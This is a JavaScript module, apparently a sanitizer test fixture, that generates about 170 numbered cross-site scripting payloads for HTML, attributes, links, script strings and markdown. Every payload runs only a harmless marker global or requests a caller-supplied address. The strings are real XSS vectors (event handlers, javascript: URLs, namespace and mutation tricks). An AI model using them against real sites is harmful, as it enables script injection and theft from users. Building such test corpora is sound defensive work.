/**
 * A text that wants to run, and where it would: `html` as markup, `attribute` within a quoted attribute, `link` as an address,
 * `script` within a string of a script, `markdown` in a note that is turned into HTML.
 *
 * @typedef {{ readonly number: number, readonly as: 'html' | 'attribute' | 'link' | 'script' | 'markdown', readonly text: string }} Payload
 */

// In all of them § is the script (it leaves a global with the payload's number) and ¤ an address that nobody should ask for.
const markup = [
  // Script elements
  '<script>§</script>',
  '<ScRiPt>§</sCrIpT>',
  '<script\n>§</script\n>',
  '<script/x="y">§</script>',
  '<script src="¤"></script>',
  '<script type=module>globalThis.§</script>',
  '<script src="data:text/javascript,§"></script>',
  '</title><script>§</script>',
  '</textarea><script>§</script>',
  '</style><script>§</script>',
  '</noscript><script>§</script>',
  '</template><script>§</script>',
  '--><script>§</script><!--',
  ']]><script>§</script>',
  '<svg><script>§</script></svg>',
  '<svg><script href="data:text/javascript,§"></script></svg>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<script>Function("§")()</script>',
  '<script>setTimeout("§")</script>',
  '<script>alert(document.domain);§</script>',
  '<script>fetch("¤").catch(() => 0);§</script>',
  '<script>new Image().src="¤";§</script>',
  // Event handlers
  '<img src=x onerror=§>',
  '<img src=x onerror="alert(1);§">',
  '<IMG SRC=x oNeRrOr=§>',
  '<img/src=x/onerror=§>',
  '<img src=x\tonerror\n=\n§>',
  '<img src=x onerror=&#115;aysWhoRan№=1>',
  '<img src=x onerror="&#x73;aysWhoRan№&#61;1">',
  '<img src="¤">',
  '<img srcset="¤ 1x">',
  '<picture><source srcset="¤"><img src=x onerror=§></picture>',
  '<svg onload=§>',
  '<svg/onload=§//',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<svg><set onbegin=§ attributeName=x to=y>',
  '<svg><image href=x onerror=§ /></svg>',
  '<svg><a href="javascript:§"><text y=20>more</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=§></svg>#x"></svg>',
  '<svg><foreignObject><iframe onload=§></iframe></foreignObject></svg>',
  '<body onload=§>',
  '<body onpageshow=§>',
  '<iframe onload=§></iframe>',
  '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>',
  '<iframe src="javascript:parent.§"></iframe>',
  '<iframe src="¤"></iframe>',
  '<frameset onload=§>',
  '<object data="javascript:parent.§"></object>',
  '<object data="¤"></object>',
  '<embed src="¤">',
  '<video src=x onerror=§></video>',
  '<video><source onerror=§ src=x></video>',
  '<video poster="¤"></video>',
  '<audio src=x onerror=§>',
  '<audio src="¤" autoplay>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§></select>',
  '<textarea autofocus onfocus=§></textarea>',
  '<button autofocus onfocus=§>x</button>',
  '<p tabindex=1 autofocus onfocus=§>x',
  '<details open ontoggle=§>x</details>',
  '<marquee onstart=§>x</marquee>',
  '<style onload=§></style>',
  '<link rel=stylesheet href="data:text/css," onload=§>',
  '<script onerror=§ src=x></script>',
  '<div style="animation:x 1s" onanimationstart=§><style>@keyframes x{}</style></div>',
  '<div style="transition:color 1ms" id=t№ ontransitionend=§>x</div>',
  '<dialog open oncancel=§ onclose=§><form method=dialog><button autofocus>x</button></form></dialog>',
  '<a href="#" onclick=§>more</a>',
  '<area href="#" onclick=§ alt=more>',
  '<div contenteditable autofocus onfocus=§>x</div>',
  '<isindex type=image src=x onerror=§>',
  '<image src=x onerror=§>',
  '<x onpointerrawupdate=§ onclick=§ tabindex=0 autofocus onfocus=§>x</x>',
  // Namespaces, and markup that turns into other markup when it is written and read again
  '<math><mtext><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;"></mtext></math>',
  '<math><mi><table><mglyph><style><!--</style><img src=x onerror=§>--></style></mglyph></table></mi></math>',
  '<math href="javascript:§"><mtext>more</mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>§</script></annotation-xml></math>',
  '<svg><style><img src="</style><img src=x onerror=§>"></style></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=§>">',
  '<svg><desc><img src=x onerror=§></desc></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<template><script>§</script></template><img src=x onerror=§>',
  '<div><template shadowrootmode=open><img src=x onerror=§></template></div>',
  '<select><style></select><img src=x onerror=§></style></select>',
  '<table><td><style><!--</td></table><img src=x onerror=§>--></style>',
  '<textarea></textarea><img src=x onerror=§></textarea>',
  '<xmp></xmp><img src=x onerror=§></xmp>',
  '<noembed></noembed><img src=x onerror=§>',
  '<!--><img src=x onerror=§>-->',
  '<!-- --!><img src=x onerror=§> -->',
  '<![CDATA[><img src=x onerror=§>]]>',
  '<?xml version="1.0"?><img src=x onerror=§>',
  '<!DOCTYPE x [<!ENTITY y "z">]><img src=x onerror=§>',
  // What leads away or loads
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<meta http-equiv=refresh content="0;url=¤">',
  '<link rel=stylesheet href="¤">',
  '<link rel=preload as=image href="¤">',
  '<link rel=prefetch href="¤">',
  '<base href="¤/"><img src=y>',
  '<form action="javascript:§"><button>more</button></form>',
  '<form><button formaction="javascript:§">more</button></form>',
  '<form action="¤"><input type=submit value=more></form>',
  '<style>@import "¤";</style>',
  '<style>body{background:url("¤")}</style>',
  '<div style="background:url(¤)">x</div>',
  '<div style="width:expression(§);behavior:url(¤)">x</div>',
  // Names that stand where a script looks for something else
  '<form id=browser><input name=runtime></form><img name=body src=x onerror=§>',
  '<a id=chrome></a><a id=chrome name=storage href="javascript:§">more</a>',
  '<form name=body><input name=firstChild><input name=nodeName></form><img src=x onerror=§>',
  // Letters that are no letters
  '\u0000<img src=x onerror=§>',
  '<img src=x onerror=§\u0000>',
  '\u202e<img src=x onerror=§>\u202c',
  '\u200b<\u200bimg src=x onerror=§><img src=x onerror=§>',
  '\ufeff<img\u000csrc=x\u000conerror=§>',
  '\ud800<img src=x onerror=§>',
];

const inAttribute = [
  '"><script>§</script>',
  "'><img src=x onerror=§>",
  '" autofocus onfocus=§ x="',
  "' autofocus onfocus='§",
  '` onmouseover=§ autofocus onfocus=§ "',
  '"onfocus="§"autofocus="',
  '&quot;><img src=x onerror=§>',
];

const asLink = [
  'javascript:§',
  'JaVaScRiPt:§',
  'java\tscript:§',
  'java\nscript:§',
  '\u0001javascript:§',
  ' javascript:§',
  'javascript://%0a§',
  'javascript:/*--></title></style></script>*/§',
  'javascript&colon;§',
  '&#106;avascript:§',
  'data:text/html,<script>§</script>',
  'data:text/html;base64,PHNjcmlwdD5zYXlzV2hvUmFuPTE8L3NjcmlwdD4=?saysWhoRan№',
  'vbscript:§',
];

const inScript = ['";§;"', "';§;'", '$\u007b§}', '</script><script>§</script>', '\\";§//', '"}];§;[{"'];

const inMarkdown = [
  '[more](javascript:§)',
  '[more](  java\tscript:§ "title")',
  '![](x" onerror="§)',
  '<javascript:§>',
  '[more]\n\n[more]: javascript:§',
  '> `code` <img src=x onerror=§>',
];

/** Every payload, numbered from 0: each runs another global, `saysWhoRan7`, or asks `address` with its number. */
export function payloadsFor(address) {
  const kinds = { html: markup, attribute: inAttribute, link: asLink, script: inScript, markdown: inMarkdown };
  return Object.entries(kinds)
    .flatMap(([as, texts]) => texts.map((text) => ({ as, text })))
    .map(({ as, text }, number) => ({
      number,
      as,
      text: text
        .replaceAll('§', `saysWhoRan${number}=1`)
        .replaceAll('№', number)
        .replaceAll('¤', `${address}${number}`),
    }));
}

/** A word by which a payload is known where it is shown. */
export const tokenOf = ({ number, text }) => (text.includes(`WhoRan${number}`) ? `WhoRan${number}` : `ask/${number}`);
